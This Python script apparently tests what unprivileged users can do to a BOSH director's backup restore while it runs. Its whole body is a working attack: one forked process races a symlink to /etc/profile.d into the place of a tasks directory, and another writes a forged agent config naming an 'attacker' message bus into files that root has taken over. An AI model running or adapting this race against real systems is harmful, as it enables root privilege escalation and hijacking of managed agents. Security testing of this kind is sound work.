# SPDX-License-Identifier: GPL-3.0-or-later
"""Run on a director, as root: what vcap and the user of backups can do to a restore while it runs, until SIGTERM.

vcap puts a link to /etc/profile.d in the place of a directory of his, and takes it away, as fast as he can. The user of
backups keeps open for writing whatever was pushed, and writes into it once root has taken it over. Python 2.7 and 3.
"""

import os
import pwd
import resource
import signal
import sys
import time

STAGING = "/var/vcap/store/microbosh-backup"
PLACE = "/var/vcap/store/director/tasks"
TARGET = "/etc/profile.d"
FORGED = b'{"agent_id": "forged", "mbus": "https://attacker"}'


class Ended(Exception):
    """The swapping has ended."""


def end(signum, frame):
    raise Ended


def become(uid):
    os.setgroups([])
    os.setgid(pwd.getpwuid(uid).pw_gid)
    os.setuid(uid)


def swap(counts):
    """Put the link there, and the directory back."""
    for step in (
        lambda: os.rename(PLACE, PLACE + ".away"),
        lambda: os.symlink(TARGET, PLACE),
        lambda: os.unlink(PLACE),
        lambda: os.rename(PLACE + ".away", PLACE),
    ):
        try:
            step()
        except OSError:
            continue
    counts["swaps"] += 1


def write(counts, held):
    """Open what is new, and write into what is there no more."""
    for directory, dummy, names in os.walk(STAGING + "/restore"):
        for name in names:
            path = os.path.join(directory, name)
            if path not in held:
                try:
                    held[path] = os.open(path, os.O_RDWR)
                except OSError:
                    continue
    for path, descriptor in held.items():
        if not os.path.lexists(path):
            os.lseek(descriptor, 0, os.SEEK_SET)
            os.write(descriptor, FORGED)
            counts["writes"] += 1
    time.sleep(0.01)


def attack(uid, step, *arguments):
    """Do something as a user for ever; return the process, which says at its end how often."""
    pid = os.fork()
    if pid:
        return pid
    become(uid)
    counts = {"swaps": 0, "writes": 0}
    try:
        while True:
            step(counts, *arguments)
    except Ended:
        sys.stdout.write("{swaps} {writes}\n".format(**counts))
        sys.stdout.flush()
        os._exit(0)


def main():
    signal.signal(signal.SIGTERM, end)
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
    vcap = pwd.getpwnam("vcap").pw_uid
    pids = [attack(vcap, swap), attack(os.stat(STAGING).st_uid, write, {})]
    try:
        while True:
            signal.pause()
    except Ended:
        for pid in pids:
            os.kill(pid, signal.SIGTERM)
            os.waitpid(pid, 0)


main()
